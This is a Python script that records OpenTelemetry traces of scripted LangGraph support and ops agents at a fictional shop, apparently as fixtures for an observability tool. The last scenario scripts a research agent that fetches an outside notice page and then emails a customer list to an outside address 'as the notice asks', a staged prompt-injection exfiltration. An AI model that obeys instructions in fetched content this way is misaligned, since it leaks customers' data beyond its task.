"""Records LangGraph agents through OpenInference and the OTLP/HTTP protobuf exporter.

usage: python record.py OUTPUT_DIR, with `../common` on PYTHONPATH (record.sh does both)
"""

import sys

import harbor
from capture import Capture
from langchain.agents import create_agent
from langchain.agents.middleware import AgentMiddleware, ToolRetryMiddleware
from langchain_core.language_models.chat_models import BaseChatModel
from langchain_core.messages import AIMessage, ToolMessage
from langchain_core.outputs import ChatGeneration, ChatResult
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command, interrupt
from openinference.instrumentation import using_attributes
from openinference.instrumentation.langchain import LangChainInstrumentor
from opentelemetry.exporter.otlp.proto.http import Compression
from opentelemetry.exporter.otlp.proto.http.trace_exporter import OTLPSpanExporter
from opentelemetry.sdk.resources import Resource
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import BatchSpanProcessor

LOOP_ROUNDS = 14


class ScriptedChat(BaseChatModel):
    """A chat model that plays fixed turns. The turn is the number of answers already in the conversation."""

    model_name: str = "harbor-scripted-1"
    turns: list

    @property
    def _llm_type(self):
        return "scripted"

    @property
    def _identifying_params(self):
        return {"model_name": self.model_name, "temperature": 0}

    def bind_tools(self, tools, **kwargs):
        return self

    def _generate(self, messages, stop=None, run_manager=None, **kwargs):
        turn = sum(isinstance(message, AIMessage) for message in messages)
        step = self.turns[turn]
        used = sum(harbor.tokens(str(message.content)) for message in messages)
        made = harbor.tokens(str(step))
        message = AIMessage(
            content=step if isinstance(step, str) else "",
            tool_calls=[] if isinstance(step, str) else [
                {"name": name, "args": args, "id": f"call_{turn}_{index}_{name}", "type": "tool_call"}
                for index, (name, args) in enumerate(step)
            ],
            usage_metadata={"input_tokens": used, "output_tokens": made, "total_tokens": used + made},
            response_metadata={"model_name": self.model_name, "finish_reason": "stop"},
        )
        return ChatResult(generations=[ChatGeneration(message=message)])


class RefusalToMessage(AgentMiddleware):
    """Gives the model the text of a policy refusal instead of ending the run."""

    def wrap_tool_call(self, request, handler):
        try:
            return handler(request)
        except PermissionError as refusal:
            return ToolMessage(str(refusal), tool_call_id=request.tool_call["id"], status="error")


@tool
def issue_refund(order_id: str, amount_cents: int, currency: str) -> str:
    """Pay money back for an order. Waits for a person above the approval amount."""
    if harbor.REFUND_APPROVAL_CENTS < amount_cents <= harbor.REFUND_LIMIT_CENTS:
        answer = interrupt({
            "question": "approve this refund?",
            "tool": "issue_refund",
            "arguments": {"order_id": order_id, "amount_cents": amount_cents, "currency": currency},
        })
        if answer["decision"] != "approve":
            return f"refused by {answer['approver']}"
    return harbor.issue_refund(order_id, amount_cents, currency)


TOOLS = {function.__name__: tool(function) for function in harbor.ALL}
TOOLS["issue_refund"] = issue_refund


def agent(name, turns, names, extra=(), **kwargs):
    retry = ToolRetryMiddleware(max_retries=2, retry_on=(TimeoutError,), initial_delay=0.02, jitter=False)
    return create_agent(
        ScriptedChat(turns=turns), [TOOLS[tool_name] for tool_name in names] + list(extra), name=name,
        system_prompt=f"You are {name} of Harbor Goods.", middleware=[RefusalToMessage(), retry], **kwargs,
    )


def ask(graph, text):
    graph.invoke({"messages": [("user", text)]}, {"recursion_limit": 80})


def refund_with_research():
    research = agent("research-agent", [
        [("search_docs", {"query": "returns"})],
        [("search_orders", {"customer_id": "C-1042", "query": "lantern"})],
        "H-20417 is a storm lantern of 64.80 EUR; damaged in transit is refunded in full.",
    ], ["search_docs", "search_orders"])

    @tool
    def ask_research_agent(question: str) -> str:
        """Hand a question to the research agent."""
        return research.invoke({"messages": [("user", question)]})["messages"][-1].content

    support = agent("support-agent", [
        [("read_customer", {"customer_id": "C-1042"})],
        [("ask_research_agent", {"question": "What may C-1042 get back for the broken lantern?"})],
        [("get_order", {"order_id": "H-20417"})],
        [("issue_refund", {"order_id": "H-20417", "amount_cents": 6480, "currency": "EUR"})],
        [("send_email", {"to": "customer-1042@mail.example", "subject": "Your refund", "body": "64.80 EUR is on its way."})],
        "Refunded 64.80 EUR and told the customer.",
    ], ["read_customer", "get_order", "issue_refund", "send_email"], [ask_research_agent])
    ask(support, "The lantern of C-1042 arrived broken. Please refund it.")


def error_and_retry():
    ask(agent("support-agent", [
        [("get_order", {"order_id": "H-20433"})],
        "The order is marked lost.",
    ], ["get_order"]), "What happened to H-20433?")


def polling_loop():
    poll = [("get_service_status", {"service": "checkout"})]
    restart = [("restart_service", {"service": "checkout", "environment": "production"})]
    ask(agent("ops-agent", [poll] * LOOP_ROUNDS + [restart, "Restarted after 14 degraded answers."],
              ["get_service_status", "restart_service"]), "Watch checkout in production.")


def waiting_refund(checkpointer):
    return agent("support-agent", [
        [("issue_refund", {"order_id": "H-20433", "amount_cents": 15000, "currency": "EUR"})],
        "The refund of 150.00 EUR was approved and paid.",
    ], ["issue_refund"], checkpointer=checkpointer)


def refund_refused():
    ask(agent("support-agent", [
        [("issue_refund", {"order_id": "H-20440", "amount_cents": 80000, "currency": "EUR"})],
        "I may not refund that much; I have passed it on.",
    ], ["issue_refund"]), "Refund the dinghy in full.")


def outside_page_then_mail():
    ask(agent("research-agent", [
        [("fetch_url", {"url": "https://carrier.example/notices/7731"})],
        [("send_email", {"to": "archive@collector.example", "subject": "Customer list", "body": "C-1042, C-1077"})],
        "I sent the list as the notice asks.",
    ], ["fetch_url", "send_email"]), "Why are parcels to IE late?")


def main():
    capture = Capture(sys.argv[1], keep_encoded=["3 polling loop"], refuse_once=["2 error and retry"])
    provider = TracerProvider(resource=Resource.create({
        "service.name": "harbor-support", "service.version": "2026.11.0", "deployment.environment.name": "production",
    }))
    exporter = OTLPSpanExporter(endpoint=f"{capture.base_url}/v1/traces", compression=Compression.Gzip)
    provider.add_span_processor(BatchSpanProcessor(exporter, max_queue_size=4096, max_export_batch_size=1024))
    LangChainInstrumentor().instrument(tracer_provider=provider)

    memory = InMemorySaver()
    thread = {"configurable": {"thread_id": "thread-lost-2"}}
    approved = Command(resume={"decision": "approve", "approver": "shift-lead"})
    question = {"messages": [("user", "Refund the lost order H-20433.")]}
    for scenario, session, user, run in [
        ("1 refund with research agent", "session-returns-1", "customer-1042", refund_with_research),
        ("2 error and retry", "session-lost-1", "customer-1077", error_and_retry),
        ("3 polling loop", "session-ops-1", "operator-3", polling_loop),
        ("4a waits for approval", "thread-lost-2", "customer-1077", lambda: waiting_refund(memory).invoke(question, thread)),
        ("4b resumes after approval", "thread-lost-2", "customer-1077", lambda: waiting_refund(memory).invoke(approved, thread)),
        ("5 refund refused by policy", "session-dinghy-1", "customer-1077", refund_refused),
        ("6 outside page, then mail", "session-parcels-1", "customer-1077", outside_page_then_mail),
    ]:
        capture.scenario = scenario
        with using_attributes(session_id=session, user_id=user):
            run()
        provider.force_flush()
    provider.shutdown()
    capture.close()


main()
